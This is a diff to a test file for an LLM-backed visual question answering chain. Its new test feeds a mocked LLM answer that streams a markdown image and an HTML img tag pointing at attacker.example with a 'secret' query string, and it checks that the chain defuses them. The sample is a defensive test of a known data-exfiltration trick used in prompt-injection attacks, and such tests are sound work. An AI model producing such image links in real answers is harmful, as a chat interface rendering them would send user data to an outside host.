@@ -130,7 +130,7 @@ describe("the chain with an LLM composer", () => {
 
     // What the LLM was sent: the VQA finding with its probability, inside the untrusted block, and the image.
     const request = llmServer.chatRequests.at(-1);
-    const user = request?.body.messages?.find((message) => message.role === "user");
+    const user = request?.body?.messages?.find((message) => message.role === "user");
     const text = messageText(user);
     const block = text.slice(text.indexOf("<untrusted-data>"), text.indexOf("</untrusted-data>"));
     expect(block).toContain("att_1");
@@ -153,6 +153,31 @@ describe("the chain with an LLM composer", () => {
       corrected: false,
     });
     expect(result.citations.map((citation) => citation.id)).toEqual(["att_1"]);
+  }, 60_000);
+
+  it("defuses markdown images and HTML an LLM answer could make a chat UI fetch", async () => {
+    llmServer.reply({
+      deltas: [
+        `The ${confident.shape} is ${confident.color} [att_1]. !`,
+        "[pixel](https://attacker.example/?q=secret) <",
+        "img src=https://attacker.example/x>",
+      ],
+    });
+    const events: ChatEvent[] = [];
+    for await (const event of chain.stream({
+      tenant: "default",
+      question: `What color is the ${confident.shape}?`,
+      images: [{ bytes: confident.bytes }],
+    })) {
+      events.push(event);
+    }
+    const done = events.at(-1);
+    if (done?.type !== "done") throw new Error("the stream ends with done");
+    const streamed = events.map((event) => (event.type === "answer-delta" ? event.data.text : "")).join("");
+    expect(streamed).toBe(done.data.answer);
+    expect(done.data.answer).not.toContain("![");
+    expect(done.data.answer).not.toContain("<img");
+    expect(done.data.answer).toContain("[pixel](https://attacker.example/?q=secret)");
   }, 60_000);
 
   it("falls back to the offline composer when the LLM fails, and says so", async () => {
